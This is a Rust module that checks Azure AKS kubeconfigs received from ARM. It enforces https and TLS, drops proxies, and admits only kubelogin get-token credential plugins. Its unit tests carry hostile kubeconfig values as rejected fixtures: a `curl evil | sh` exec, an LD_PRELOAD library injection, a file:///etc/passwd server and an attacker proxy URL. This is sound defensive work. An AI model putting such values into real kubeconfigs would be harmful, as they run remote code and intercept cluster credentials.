//! What ARM sends is not trusted blindly. An exported kubeconfig ends up where it is acted upon:
//! Argo CD runs the `execProviderConfig` of a cluster Secret, Cluster API and Flux connect with it,
//! people run `kubectl` with it. Only what a real AKS or AKS Arc kubeconfig holds passes:
//!
//! - a `server` that is an `https://` URL (no whitespace or control characters, bounded);
//! - TLS verification on: `insecure-skip-tls-verify: true` is refused;
//! - no `proxy-url`: it is dropped (traffic to the cluster never goes where ARM's answer says);
//! - as a credential plugin only `kubelogin get-token` with the flags AKS and AKS Arc write
//!   (`--environment`, `--server-id`, `--client-id`, `--tenant-id`, `--login`, `--pop-*`, …), and
//!   in its environment only kubelogin's own `AZURE_*` / `AAD_*` settings; as an auth provider
//!   only the legacy `azure` one.
//!
//! Messages name the field, never its value (a value may be a token).

use super::error::KubeconfigError;
use super::model::{Exec, Kubeconfig};

/// Longest `server` URL accepted.
const MAX_SERVER_BYTES: usize = 2048;

/// The flags of `kubelogin get-token` that AKS and AKS Arc kubeconfigs carry (azure-cli's
/// `az aks get-credentials --format exec`, kubelogin's `convert-kubeconfig`).
const KUBELOGIN_FLAGS: &[&str] = &[
    "--environment",
    "--server-id",
    "--client-id",
    "--tenant-id",
    "--login",
    "-l",
    "--pop-enabled",
    "--pop-claims",
    "--legacy",
];

/// Checks every cluster and user of `config` and drops what is not to be followed. `credential`
/// names the kubeconfig in errors.
pub fn sanitize(credential: &str, config: &mut Kubeconfig) -> Result<(), KubeconfigError> {
    let refuse = |what: String| KubeconfigError::Untrusted {
        credential: credential.to_owned(),
        what,
    };
    for named in &mut config.clusters {
        let cluster = &mut named.cluster;
        let name = &named.name;
        if let Some(server) = &cluster.server
            && !is_https_url(server)
        {
            return Err(refuse(format!(
                "cluster {name:?}: server is not an https:// URL of at most {MAX_SERVER_BYTES} bytes"
            )));
        }
        if cluster.insecure_skip_tls_verify == Some(true) {
            return Err(refuse(format!(
                "cluster {name:?}: insecure-skip-tls-verify turns TLS verification off"
            )));
        }
        cluster.extra.remove("proxy-url");
    }
    for named in &config.users {
        let user = &named.user;
        let name = &named.name;
        if let Some(exec) = &user.exec
            && let Err(why) = kubelogin(exec)
        {
            return Err(refuse(format!("user {name:?}: exec {why}")));
        }
        if let Some(provider) = &user.auth_provider
            && provider["name"].as_str() != Some("azure")
        {
            return Err(refuse(format!(
                "user {name:?}: auth-provider is not the azure one"
            )));
        }
    }
    Ok(())
}

fn is_https_url(server: &str) -> bool {
    server.len() <= MAX_SERVER_BYTES
        && !server.chars().any(|c| c.is_whitespace() || c.is_control())
        && reqwest::Url::parse(server).is_ok_and(|u| u.scheme() == "https" && u.host().is_some())
}

/// Whether `exec` is kubelogin as AKS writes it; else why not.
fn kubelogin(exec: &Exec) -> Result<(), String> {
    if exec.command != "kubelogin" {
        return Err("command is not kubelogin".into());
    }
    if exec.args.first().map(String::as_str) != Some("get-token") {
        return Err("arguments do not start with get-token".into());
    }
    // kubelogin reads its settings from AZURE_* and AAD_* variables; nothing else (LD_PRELOAD,
    // PATH, …) has a place in its environment.
    if let Some(env) = exec
        .env
        .iter()
        .find(|e| !(e.name.starts_with("AZURE_") || e.name.starts_with("AAD_")))
    {
        return Err(format!(
            "sets environment variable {:?}, which is not one of kubelogin's",
            crate::text::clean(&env.name, 64)
        ));
    }
    for arg in exec.args.iter().skip(1).filter(|a| a.starts_with('-')) {
        let flag = arg.split('=').next().unwrap_or_default();
        if !KUBELOGIN_FLAGS.contains(&flag) {
            return Err(format!(
                "argument {flag:?} is not one kubelogin get-token takes from AKS"
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(cluster: serde_json::Value, user: serde_json::Value) -> Kubeconfig {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "v1", "kind": "Config",
            "clusters": [{"name": "c", "cluster": cluster}],
            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
            "users": [{"name": "u", "user": user}],
        }))
        .unwrap()
    }

    fn aks_exec(args: &[&str]) -> serde_json::Value {
        serde_json::json!({"exec": {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": "kubelogin", "args": args, "env": null}})
    }

    const SERVER: &str = "https://aks1-dns.hcp.westeurope.azmk8s.io:443";

    #[test]
    fn what_aks_writes_passes_and_a_proxy_is_dropped() {
        let user = aks_exec(&[
            "get-token",
            "--environment",
            "AzurePublicCloud",
            "--server-id",
            "6dae42f8",
            "--client-id",
            "80faf920",
            "--tenant-id",
            "t",
            "--login",
            "devicecode",
        ]);
        let mut c = config(
            serde_json::json!({"server": SERVER, "certificate-authority-data": "eA==", "proxy-url": "http://evil:3128"}),
            user,
        );
        sanitize("clusterUser", &mut c).unwrap();
        assert!(!c.clusters[0].cluster.extra.contains_key("proxy-url"));
        let mut legacy = config(
            serde_json::json!({"server": SERVER}),
            serde_json::json!({"auth-provider": {"name": "azure", "config": {}}}),
        );
        sanitize("clusterUser", &mut legacy).unwrap();
    }

    #[test]
    fn what_no_real_kubeconfig_holds_is_refused_without_quoting_it() {
        let token = serde_json::json!({"token": "SECRET-TOKEN"});
        let cases = [
            (
                serde_json::json!({"server": "http://plain:80"}),
                token.clone(),
                "https",
            ),
            (
                serde_json::json!({"server": "https://a b"}),
                token.clone(),
                "https",
            ),
            (
                serde_json::json!({"server": "file:///etc/passwd"}),
                token.clone(),
                "https",
            ),
            (
                serde_json::json!({"server": SERVER, "insecure-skip-tls-verify": true}),
                token.clone(),
                "insecure-skip-tls-verify",
            ),
            (
                serde_json::json!({"server": SERVER}),
                serde_json::json!({"exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}),
                "not kubelogin",
            ),
            (
                serde_json::json!({"server": SERVER}),
                serde_json::json!({"exec": {"command": "/tmp/kubelogin", "args": ["get-token"]}}),
                "not kubelogin",
            ),
            (
                serde_json::json!({"server": SERVER}),
                aks_exec(&["get-token", "--exec-hook=sh"]),
                "--exec-hook",
            ),
            (
                serde_json::json!({"server": SERVER}),
                aks_exec(&["convert-kubeconfig"]),
                "get-token",
            ),
            (
                serde_json::json!({"server": SERVER}),
                serde_json::json!({"exec": {"command": "kubelogin", "args": ["get-token"], "env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}}),
                "LD_PRELOAD",
            ),
            (
                serde_json::json!({"server": SERVER}),
                serde_json::json!({"auth-provider": {"name": "oidc", "config": {}}}),
                "auth-provider",
            ),
        ];
        for (cluster, user, why) in cases {
            let mut c = config(cluster.clone(), user.clone());
            let err = sanitize("clusterUser", &mut c).unwrap_err();
            let text = err.to_string();
            assert!(text.contains(why), "{cluster} {user}: {text}");
            assert!(
                !text.contains("SECRET-TOKEN") && !text.contains("evil"),
                "{text}"
            );
            assert_eq!(err.reason(), "InvalidKubeconfig");
        }
    }
}
